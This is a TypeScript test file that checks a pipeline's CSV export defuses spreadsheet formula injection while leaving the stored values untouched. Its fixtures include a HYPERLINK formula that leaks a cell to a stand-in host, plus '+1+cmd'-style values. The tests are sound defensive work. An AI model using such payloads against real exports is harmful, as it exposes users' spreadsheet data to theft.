import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { literal } from '../../pipeline/db/Database.js';
import { copyCsv } from '../../pipeline/db/csvCopy.js';
import { spreadsheetSafe, spreadsheetSafeSql } from '../../pipeline/shared/csv.js';
import { withDb, withTempDir } from '../helpers/withDb.js';

test('COPY to CSV neutralises formula-like text in every text column, in column order, and leaves numbers, dates and NULL as they are', async () => {
  await withDb(async (db) => {
    await withTempDir(async (dir) => {
      await db.run(`CREATE TABLE t AS SELECT * FROM (VALUES
        ('=HYPERLINK("http://x/?leak="&A1,"click")', -2.5, DATE '2026-01-31', '@SUM(1)'),
        ('plain', 3.0, NULL, NULL),
        (chr(9) || 'tab', -1.0, DATE '2026-02-01', '+1+cmd')) v(id, amount, day, note)`);
      const path = join(dir, 'out.csv');
      await copyCsv(db, 'SELECT * FROM t ORDER BY amount', path);
      expect(readFileSync(path, 'utf8').trim().split('\n')).toEqual([
        'id,amount,day,note',
        `"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",-2.5,2026-01-31,'@SUM(1)`,
        "'\ttab,-1.0,2026-02-01,'+1+cmd",
        'plain,3.0,,',
      ]);
      // A text column holding a semicolon is quoted throughout (a semicolon-locale spreadsheet splits cells there).
      await db.run(`CREATE TABLE s AS SELECT * FROM (VALUES ('a;=HYPERLINK("x")', 1), ('plain', 2)) v(note, n)`);
      await copyCsv(db, 'SELECT * FROM s ORDER BY n', path);
      expect(readFileSync(path, 'utf8').trim().split('\n')).toEqual(['"note",n', '"a;=HYPERLINK(""x"")",1', '"plain",2']);
      // The table itself is unchanged: machines read those values.
      expect(await db.value(`SELECT id FROM t WHERE amount = -2.5`)).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
    });
  });
});

test('the SQL rule prefixes exactly the text the JavaScript rule prefixes', async () => {
  const starts = ['=', '+', '-', '@', '\t', '\r', '\n', ' ', "'", '"', ';', ',', 'a', '0', 'é', '€', '＝', '\u00a0', '\u0301', '😀'];
  const texts = ['', ...starts.flatMap((c) => [c, `${c}=1`, `x${c}`, `${c}${c}SUM(A1)`]), ' =1', '\n=1', 'é=1'];
  await withDb(async (db) => {
    const rows = await db.all<{ i: number; safe: string | null }>(
      `SELECT i, ${spreadsheetSafeSql('t')} AS safe FROM (VALUES ${texts.map((t, k) => `(${k + 1}, ${literal(t)})`).join(', ')}, (0, NULL)) v(i, t)`);
    const byIndex = new Map(rows.map((r) => [Number(r.i), r.safe]));
    expect(byIndex.get(0)).toBeNull();
    texts.forEach((t, k) => expect(byIndex.get(k + 1), JSON.stringify(t)).toBe(spreadsheetSafe(t)));
    expect(texts.filter((t) => spreadsheetSafe(t) !== t)).toHaveLength(6 * 3); // each of the six, alone, before "=1" and doubled
  });
});
